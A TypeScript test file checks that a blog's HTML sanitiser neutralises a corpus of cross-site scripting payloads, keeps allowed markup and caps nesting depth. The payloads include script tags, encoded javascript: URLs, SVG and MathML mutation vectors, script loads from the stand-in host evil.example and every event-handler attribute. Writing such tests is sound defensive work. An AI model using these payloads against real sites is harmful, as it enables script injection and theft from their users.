import { describe, expect, it } from "vitest";
import {
  blogAllowedAttributes,
  blogAllowedTags,
  blogNestingDepth,
  blogNestingTooDeep,
  estimatedNestingDepth,
  maxBlogNestingDepth,
  sanitizeBlogHtml,
} from "./sanitize";

/* Every event-handler attribute a browser knows, each tried on an allowed and a disallowed element. */
const eventHandlers = [
  "onabort",
  "onafterprint",
  "onanimationend",
  "onanimationiteration",
  "onanimationstart",
  "onauxclick",
  "onbeforecopy",
  "onbeforecut",
  "onbeforeinput",
  "onbeforepaste",
  "onbeforeprint",
  "onbeforetoggle",
  "onbeforeunload",
  "onbegin",
  "onblur",
  "oncancel",
  "oncanplay",
  "oncanplaythrough",
  "onchange",
  "onclick",
  "onclose",
  "oncontentvisibilityautostatechange",
  "oncontextmenu",
  "oncopy",
  "oncuechange",
  "oncut",
  "ondblclick",
  "ondrag",
  "ondragend",
  "ondragenter",
  "ondragleave",
  "ondragover",
  "ondragstart",
  "ondrop",
  "ondurationchange",
  "onend",
  "onended",
  "onerror",
  "onfocus",
  "onfocusin",
  "onfocusout",
  "onformdata",
  "onfullscreenchange",
  "onhashchange",
  "oninput",
  "oninvalid",
  "onkeydown",
  "onkeypress",
  "onkeyup",
  "onload",
  "onloadeddata",
  "onloadedmetadata",
  "onloadstart",
  "onmessage",
  "onmousedown",
  "onmouseenter",
  "onmouseleave",
  "onmousemove",
  "onmouseout",
  "onmouseover",
  "onmouseup",
  "onmousewheel",
  "onoffline",
  "ononline",
  "onpagehide",
  "onpageshow",
  "onpaste",
  "onpause",
  "onplay",
  "onplaying",
  "onpointercancel",
  "onpointerdown",
  "onpointerenter",
  "onpointerleave",
  "onpointermove",
  "onpointerout",
  "onpointerover",
  "onpointerrawupdate",
  "onpointerup",
  "onpopstate",
  "onprogress",
  "onratechange",
  "onrepeat",
  "onreset",
  "onresize",
  "onscroll",
  "onscrollend",
  "onsecuritypolicyviolation",
  "onseeked",
  "onseeking",
  "onselect",
  "onselectionchange",
  "onselectstart",
  "onshow",
  "onslotchange",
  "onstalled",
  "onstorage",
  "onsubmit",
  "onsuspend",
  "ontimeupdate",
  "ontoggle",
  "ontouchcancel",
  "ontouchend",
  "ontouchmove",
  "ontouchstart",
  "ontransitioncancel",
  "ontransitionend",
  "ontransitionrun",
  "ontransitionstart",
  "onunload",
  "onvolumechange",
  "onwaiting",
  "onwebkitanimationend",
  "onwheel",
] as const;

/* Hand-written attacks: script and style, dangerous URLs (plain, cased, entity- and whitespace-encoded), SVG and
   MathML tricks, disallowed elements, broken and nested markup. */
const handWritten = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<ScRiPt>alert(1)</sCrIpT>`,
  `<script type="module">import("//evil.example")</script>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<<script>alert(1)//<</script>`,
  `<script>alert(1)`,
  `<p>before<script>alert(1)</script>after</p>`,
  `<style>body{display:none}</style><p>x</p>`,
  `<STYLE>@import "//evil.example/x.css";</STYLE>`,
  `<p style="background:url(javascript:alert(1))">x</p>`,
  `<div style="behavior:url(x.htc)">x</div>`,
  `<a href="javascript:alert(1)">x</a>`,
  `<a href="JAVASCRIPT:alert(1)">x</a>`,
  `<a href="JaVaScRiPt:alert(1)">x</a>`,
  `<a href=" javascript:alert(1)">x</a>`,
  `<a href="\tjavascript:alert(1)">x</a>`,
  `<a href="java\tscript:alert(1)">x</a>`,
  `<a href="java\nscript:alert(1)">x</a>`,
  `<a href="java&#x09;script:alert(1)">x</a>`,
  `<a href="java&#x0A;script:alert(1)">x</a>`,
  `<a href="&#106;avascript:alert(1)">x</a>`,
  `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>`,
  `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>`,
  `<a href="javascript&colon;alert(1)">x</a>`,
  `<a href="jav&#x0D;ascript:alert(1)">x</a>`,
  `<a href="\u0000javascript:alert(1)">x</a>`,
  `<a href="javascript://%0Aalert(1)">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="livescript:alert(1)">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="DATA:text/html,<script>alert(1)</script>">x</a>`,
  `<a href="data&colon;text/html,x">x</a>`,
  `<a href="file:///etc/passwd">x</a>`,
  `<a href="blob:https://evil.example/uuid">x</a>`,
  `<a href="//evil.example/">x</a>`,
  `<a href="\\\\evil.example">x</a>`,
  `<img src="javascript:alert(1)">`,
  `<img src=x onerror=alert(1)>`,
  `<img src="x" onerror="alert(1)" />`,
  `<img src=x:alert(alt) onerror=eval(src) alt=0>`,
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<img src="data:image/png;base64,iVBORw0KGgo=">`,
  `<img src="//evil.example/pixel.gif">`,
  `<img src="mailto:a@example.com">`,
  `<img srcset="javascript:alert(1) 1x">`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>">`,
  `<img/src="x"/onerror="alert(1)">`,
  `<img src="x"onerror="alert(1)">`,
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<svg><set attributeName="href" to="javascript:alert(1)"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror=alert(1)></style></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<math href="javascript:alert(1)">x</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>`,
  `<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="javascript:alert(1)"></object>`,
  `<embed src="javascript:alert(1)">`,
  `<base href="javascript:alert(1)//">`,
  `<link rel="stylesheet" href="//evil.example/x.css">`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<form action="javascript:alert(1)"><button>x</button></form>`,
  `<button formaction="javascript:alert(1)">x</button>`,
  `<input autofocus onfocus=alert(1)>`,
  `<textarea autofocus onfocus=alert(1)>x</textarea>`,
  `<select autofocus onfocus=alert(1)><option>x</option></select>`,
  `<details open ontoggle=alert(1)>`,
  `<video><source onerror="alert(1)"></video>`,
  `<audio src=x onerror=alert(1)>`,
  `<body onload=alert(1)>`,
  `<marquee onstart=alert(1)>x</marquee>`,
  `<isindex action="javascript:alert(1)" type=image>`,
  `<template><script>alert(1)</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<xmp><img src=x onerror=alert(1)></xmp>`,
  `<div id="x" onclick="alert(1)" style="position:fixed;inset:0">x</div>`,
  `<p class="fixed inset-0 z-50 bg-white">cover the page</p>`,
  `<a href="https://example.com" target="_blank">new tab</a>`,
  `<a href="https://example.com" target="_BLANK" rel="opener">new tab</a>`,
  `<a href="https://example.com" target="javascript:alert(1)">x</a>`,
  `<a href="https://example.com" ping="https://evil.example">x</a>`,
  `<a href="https://example.com" download>x</a>`,
  `<p data-x="y" id="z" name="n" aria-hidden="true" tabindex="0" hidden>x</p>`,
  `<p title="a&quot; onmouseover=&quot;alert(1)">x</p>`,
  `<p title='x' onmouseover=alert(1)//'>x</p>`,
  `<div><p><a href="javascript:alert(1)"><strong onclick="x()">nested</strong></a></p></div>`,
  `<ul><li><ol><li><blockquote><div><span onmouseover="x()">deep</span></div></blockquote></li></ol></li></ul>`,
  `<p>unclosed <strong>bold <em>italic`,
  `</p></div></a>stray closers`,
  `<a href="x"<img src=x onerror=alert(1)>`,
  `<p <script>alert(1)</script>>x</p>`,
  `<!--<script>alert(1)</script>-->`,
  `<![CDATA[<script>alert(1)</script>]]>`,
  `<?xml version="1.0"?><script>alert(1)</script>`,
  `<!DOCTYPE html><script>alert(1)</script>`,
  `<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>`,
  `&#60;script&#62;alert(1)&#60;/script&#62;`,
  `<pre><code class="language-js" onclick="x()">const x = "</code><script>alert(1)</script>";</code></pre>`,
  `<h1 onclick="x()">h1</h1><h2 style="x">h2</h2><h3>h3</h3><h4>h4</h4><h5>h5</h5><h6>h6</h6>`,
  `<p>${"<div>".repeat(200)}deep${"</div>".repeat(200)}</p>`,
] as const;

const hostileInputs: readonly string[] = [
  ...handWritten,
  ...eventHandlers.map((handler) => `<p ${handler}="alert(1)">text</p>`),
  ...eventHandlers.map((handler) => `<video ${handler.toUpperCase()}=alert(1) src=x></video>`),
];

const dangerousUrl = /^\s*(?:javascript|vbscript|livescript|data|file|blob):|^\s*\/\/|^\s*\\\\/i;

/** Tags and attributes in sanitised output; the sanitiser serialises well-formed markup, so a regex can read it. */
function tagsOf(html: string): Array<{ name: string; attributes: Array<[string, string]> }> {
  return [...html.matchAll(/<\/?([a-zA-Z][a-zA-Z0-9:-]*)((?:\s+[^\s=/>]+(?:="[^"]*")?)*)\s*\/?>/g)].map((match) => ({
    name: (match[1] ?? "").toLowerCase(),
    attributes: [...(match[2] ?? "").matchAll(/([^\s=/>]+)(?:="([^"]*)")?/g)].map((a) => [(a[1] ?? "").toLowerCase(), a[2] ?? ""]),
  }));
}

function decodeEntities(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(/&colon;/gi, ":")
    .replace(/&quot;/g, '"')
    .replace(/&amp;/g, "&");
}

describe("sanitizeBlogHtml against hostile input", () => {
  it("has a corpus of well over 100 hostile inputs", () => {
    expect(hostileInputs.length).toBeGreaterThanOrEqual(300);
    expect(new Set(hostileInputs).size).toBe(hostileInputs.length);
  });

  it.each(hostileInputs.map((input) => [input]))("neutralises %s", (input) => {
    const output = sanitizeBlogHtml(input);
    const allowedTags: readonly string[] = blogAllowedTags;
    const allowedAttributes: readonly string[] = blogAllowedAttributes;

    // No element or attribute outside the allow-list survives, and no event handler at all.
    for (const tag of tagsOf(output)) {
      expect(allowedTags).toContain(tag.name);
      for (const [name, value] of tag.attributes) {
        expect(allowedAttributes).toContain(name);
        expect(name).not.toMatch(/^on/);
        if (name === "href" || name === "src") expect(decodeEntities(value).replace(/[\u0000-\u0020]/g, "")).not.toMatch(dangerousUrl);
        if (name === "target") expect(["_blank", "_self", "_parent", "_top"]).toContain(value);
        if (name === "class")
          for (const cls of value.split(/\s+/)) expect(cls).toMatch(/^(language-[a-z0-9+#_-]+|text-(left|center|right|justify))$/);
      }
      if (tag.name === "a" && tag.attributes.some(([name, value]) => name === "target" && value === "_blank")) {
        const rel = tag.attributes.find(([name]) => name === "rel")?.[1] ?? "";
        expect(rel.split(" ")).toEqual(expect.arrayContaining(["noopener", "noreferrer"]));
      }
    }
    // Nothing that could be parsed back into markup hides in the text.
    expect(output).not.toMatch(/<\s*(script|style|svg|math|iframe|object|embed|template|base|meta|link|form)/i);
    // Sanitising is stable: what is stored renders the same after a second pass.
    expect(sanitizeBlogHtml(output)).toBe(output);
  });
});

describe("sanitizeBlogHtml keeps what the allow-list allows", () => {
  it("keeps every allowed tag", () => {
    const html =
      "<h1>a</h1><h2>b</h2><h3>c</h3><h4>d</h4><h5>e</h5><h6>f</h6><p>g<br />h <strong>i</strong> <em>j</em> <u>k</u> <span>l</span></p>" +
      "<ul><li>m</li></ul><ol><li>n</li></ol><blockquote>o</blockquote><pre><code>p</code></pre><div>q</div>";
    expect(sanitizeBlogHtml(html)).toBe(html);
  });

  it.each([
    ["/insights/a-post", "relative path"],
    ["#section", "fragment"],
    ["other-post", "relative file"],
    ["?page=2", "query"],
    ["https://www.example.com/a?b=c", "https"],
    ["http://example.com/", "http"],
    ["mailto:hello@ironbark.example", "mailto"],
    ["tel:+61255504821", "tel"],
  ])("keeps the link %s (%s)", (href) => {
    expect(sanitizeBlogHtml(`<a href="${href}" title="t">x</a>`)).toBe(`<a href="${href.replace(/&/g, "&amp;")}" title="t">x</a>`);
  });

  it("keeps images from http, https and relative sources with their alt text", () => {
    expect(sanitizeBlogHtml('<img src="/uploads/a.webp" alt="A kitchen" />')).toBe('<img src="/uploads/a.webp" alt="A kitchen" />');
    expect(sanitizeBlogHtml('<img src="https://cdn.example.com/a.jpg" alt="" />')).toBe(
      '<img src="https://cdn.example.com/a.jpg" alt="" />',
    );
    expect(sanitizeBlogHtml('<img src="tel:123" alt="x" />')).toBe('<img alt="x" />');
  });

  it("adds rel=noopener noreferrer to links that open a new tab, keeping other rel words", () => {
    expect(sanitizeBlogHtml('<a href="https://x.example" target="_blank">x</a>')).toBe(
      '<a href="https://x.example" target="_blank" rel="noopener noreferrer">x</a>',
    );
    expect(sanitizeBlogHtml('<a href="https://x.example" target="_blank" rel="nofollow">x</a>')).toBe(
      '<a href="https://x.example" target="_blank" rel="nofollow noopener noreferrer">x</a>',
    );
    expect(sanitizeBlogHtml('<a href="/a" rel="nofollow">x</a>')).toBe('<a href="/a" rel="nofollow">x</a>');
  });

  it("keeps code-language and alignment classes only", () => {
    expect(sanitizeBlogHtml('<pre><code class="language-ts evil">x</code></pre>')).toBe('<pre><code class="language-ts">x</code></pre>');
    expect(sanitizeBlogHtml('<p class="text-center fixed">x</p>')).toBe('<p class="text-center">x</p>');
  });

  it("keeps the text of removed elements that are not scripts", () => {
    expect(sanitizeBlogHtml("<table><tr><td>Cell</td></tr></table>")).toBe("Cell");
    expect(sanitizeBlogHtml("<p>a <font color=red>b</font> c</p>")).toBe("<p>a b c</p>");
  });

  it("keeps what follows an unclosed <style> inside <math>, as a browser shows it", () => {
    const html = "<p>Before</p><math><style><p>After one</p><p>After two</p>";
    expect(sanitizeBlogHtml(html)).toBe("<p>Before</p><p>After one</p><p>After two</p>");
  });
});

/** `<div>` × depth around `inner`: the audit's post that broke its article. */
const nested = (depth: number, inner = "x", tag = "div") => `<${tag}>`.repeat(depth) + inner + `</${tag}>`.repeat(depth);

describe("nesting depth", () => {
  it("measures how many elements deep HTML goes, as a browser builds it, without recursion", () => {
    expect(blogNestingDepth("plain text")).toBe(0);
    expect(blogNestingDepth("<p>a</p><p>b <strong>c</strong></p>")).toBe(2);
    expect(blogNestingDepth("<ul><li><ul><li>x</li></ul></li></ul>")).toBe(4);
    // Unclosed paragraphs close each other; a table gains its implied body.
    expect(blogNestingDepth("<p>a<p>b<p>c")).toBe(1);
    expect(blogNestingDepth("<table><tr><td>x</td></tr></table>")).toBe(4);
    expect(blogNestingDepth(nested(3_000))).toBe(3_000);
    // Content inside a <template> counts too (the writer descends into it).
    expect(blogNestingDepth(`<template>${nested(500)}</template>`)).toBe(501);
  });

  it("estimates the depth of the tags alone in one linear pass", () => {
    expect(estimatedNestingDepth("<p>a<br>b<img src=x></p><p>c</p>")).toBe(1);
    expect(estimatedNestingDepth(nested(40_000))).toBe(40_000);
    const started = performance.now();
    estimatedNestingDepth(nested(40_000));
    expect(performance.now() - started).toBeLessThan(1_000);
  });

  it("judges a save: within the bound, past it, and far past it without parsing", () => {
    expect(blogNestingTooDeep(nested(maxBlogNestingDepth))).toBe(false);
    expect(blogNestingTooDeep(nested(maxBlogNestingDepth + 1))).toBe(true);
    expect(blogNestingTooDeep(`<table><tr><td>${nested(maxBlogNestingDepth - 3)}</td></tr></table>`)).toBe(true);
    const started = performance.now();
    expect(blogNestingTooDeep(nested(40_000))).toBe(true);
    expect(performance.now() - started).toBeLessThan(1_000);
  });

  it("leaves content within the bound as it was", () => {
    const deepList = nested(maxBlogNestingDepth / 2, "<li>x</li>", "ul");
    expect(sanitizeBlogHtml(deepList)).toBe(sanitizeBlogHtml(sanitizeBlogHtml(deepList)));
    expect(sanitizeBlogHtml(nested(maxBlogNestingDepth))).toBe(nested(maxBlogNestingDepth));
  });

  const deepBody = '<p>Deep <strong>text</strong></p><img src="https://x.example/a.png" alt="A"><p>after</p>';

  it.each([150, 900])(
    "flattens %i nested elements to the bound, keeping the text, images and order",
    (depth) => {
      const clean = sanitizeBlogHtml(nested(depth, deepBody) + "<p>Tail</p>");
      expect(blogNestingDepth(clean)).toBeLessThanOrEqual(maxBlogNestingDepth);
      // The paragraph holding <strong> was a wrapper: its text and the <strong> stay, in order.
      expect(clean).toContain('Deep <strong>text</strong><img src="https://x.example/a.png" alt="A" /><p>after</p>');
      expect(clean.endsWith("<p>Tail</p>")).toBe(true);
      expect(sanitizeBlogHtml(clean)).toBe(clean);
    },
    20_000,
  );

  it.each([3_000, 10_000, 40_000])(
    "cuts %i nested elements to the bound in linear time, keeping the text in order",
    (depth) => {
      const started = performance.now();
      const clean = sanitizeBlogHtml(nested(depth, deepBody) + "<p>Tail</p>");
      // Generous for a busy machine: parse5 alone took about a minute for 40,000 levels.
      expect(performance.now() - started).toBeLessThan(15_000);
      expect(blogNestingDepth(clean)).toBeLessThanOrEqual(maxBlogNestingDepth);
      expect(clean.replace(/<[^>]*>/g, "")).toBe("Deep textafterTail");
      expect(clean.endsWith("<p>Tail</p>")).toBe(true);
      expect(sanitizeBlogHtml(clean)).toBe(clean);
    },
    30_000,
  );

  it.each([300, 5_000])(
    "still strips what is dangerous below the bound (%i levels)",
    (depth) => {
      const clean = sanitizeBlogHtml(
        nested(depth, '<img src="x" onerror="alert(1)"><a href="javascript:alert(1)">y</a><script>alert(2)</script>'),
      );
      expect(clean).not.toMatch(/onerror|javascript:|<script|alert/);
      expect(clean).toContain("y");
    },
    20_000,
  );
});
